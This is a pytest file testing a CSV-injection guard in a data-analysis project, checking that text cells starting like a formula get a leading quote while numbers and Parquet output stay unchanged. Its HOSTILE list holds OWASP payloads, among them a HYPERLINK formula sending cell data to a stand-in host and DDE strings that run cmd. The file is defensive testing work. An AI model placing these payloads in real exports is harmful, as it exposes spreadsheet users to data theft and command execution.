"""CSV injection: text cells that begin like a formula get a leading quote in the CSV, numbers never change."""
import numpy as np
import pandas as pd
import pytest

from analysis.atomic import write_tables
from analysis.spreadsheet import QUOTE, neutralise, neutralise_text

# the OWASP CSV-injection examples, and the other characters a spreadsheet starts a formula with
HOSTILE = [
    '=HYPERLINK("http://evil.invalid?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "-80,29%",  # printed text that looks like a number is still text
]
HARMLESS = ["Penunjang Urusan", "1. Program", "Rp. 1.000,-", " =leading space", "'already quoted", "", "5,87 %"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_quote(text):
    assert neutralise_text(text) == QUOTE + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text):
    assert neutralise_text(text) == text


@pytest.mark.parametrize("value", [-80.29, -1, np.float64(-2.5), np.nan, None, pd.NA, True])
def test_non_text_values_are_unchanged(value):
    assert neutralise_text(value) is value


def test_only_text_columns_change():
    df = pd.DataFrame({
        "program": HOSTILE[:3] + ["Penunjang Urusan"],
        "nilai": [-80.29, -1.0, np.nan, 5.87],  # numbers: a negative number stays a number
        "jumlah": pd.array([-3, None, 2, 0], dtype="Int64"),
        "mixed": ["-x", -4.0, None, True],  # object column: only its text cells
        "teks": pd.array(["@a", None, "b", "+c"], dtype="string"),
        "kategori": pd.Categorical(["=a", "b", "=a", "b"]),
        "flag": [True, False, True, False],
    })
    out = neutralise(df)
    assert out["program"].tolist() == [QUOTE + t for t in HOSTILE[:3]] + ["Penunjang Urusan"]
    pd.testing.assert_series_equal(out["nilai"], df["nilai"])
    pd.testing.assert_series_equal(out["jumlah"], df["jumlah"])
    pd.testing.assert_series_equal(out["flag"], df["flag"])
    assert out["mixed"].tolist()[0] == "'-x" and out["mixed"].tolist()[1] == -4.0 and out["mixed"].tolist()[3] is True
    assert out["teks"].tolist()[0] == "'@a" and out["teks"].tolist()[3] == "'+c" and pd.isna(out["teks"][1])
    assert out["kategori"].tolist() == ["'=a", "b", "'=a", "b"]
    assert df["program"].tolist()[0] == HOSTILE[0]  # the input is not changed


def test_a_table_without_formula_text_is_returned_as_is():
    df = pd.DataFrame({"nama": ["a", "b"], "nilai": [-1.0, 2.0]})
    assert neutralise(df) is df


def test_csv_is_neutralised_parquet_is_exact(tmp_path):
    df = pd.DataFrame({"program": HOSTILE, "nilai": np.arange(len(HOSTILE)) - 3.5})
    write_tables(tmp_path, {"program": df})
    text = (tmp_path / "program.csv").read_bytes().decode("utf-8")
    assert "\n\"'\r=1+2\"," in text  # the CR cell quoted (the csv writer leaves a bare CR unquoted otherwise)
    csv = pd.read_csv(tmp_path / "program.csv", keep_default_na=False)  # every row whole, the CR one included
    assert csv["program"].tolist() == [QUOTE + t for t in HOSTILE]
    assert csv["nilai"].tolist() == df["nilai"].tolist()  # read back as numbers, negatives included
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "program.parquet"), df)
